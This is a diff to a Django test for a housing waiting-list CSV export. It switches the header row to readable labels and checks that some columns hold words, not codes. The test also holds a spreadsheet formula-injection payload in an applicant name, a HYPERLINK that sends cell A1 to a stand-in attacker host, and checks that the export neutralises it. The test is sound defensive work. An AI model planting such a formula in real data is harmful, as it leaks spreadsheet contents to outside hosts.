@@ -262,23 +262,24 @@ def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(
     assert response["Content-Disposition"] == 'attachment; filename="venteliste-2026-11-25.csv"'
     text = response.content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text), delimiter=";"))
-    assert rows[0] == [
-        "case",
-        "applicant",
-        "band",
-        "decided",
-        "received",
-        "bedrooms",
-        "wheelchair",
-        "target_group",
-        "suspended_until",
-        "open_offer",
+    assert rows[0] == [  # in the user's language, for a person reading a spreadsheet
+        "Case",
+        "Applicant",
+        "Band",
+        "Decided",
+        "Received",
+        "Bedrooms",
+        "Needs wheelchair access",
+        "Target group",
+        "Suspended until",
+        "Open offer",
     ]
     by_case = {row[0]: row for row in rows[1:]}
     assert set(by_case) == {application.ref, plain.ref}
     assert by_case[application.ref][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Hansen'
     assert by_case[plain.ref][1] == str(plain.household.applicant)
     assert by_case[plain.ref][3] == "2026-10-01"
+    assert (by_case[plain.ref][6], by_case[plain.ref][7]) == ("nei", "Ordinary")  # words, not codes
 
 
 @pytest.mark.django_db
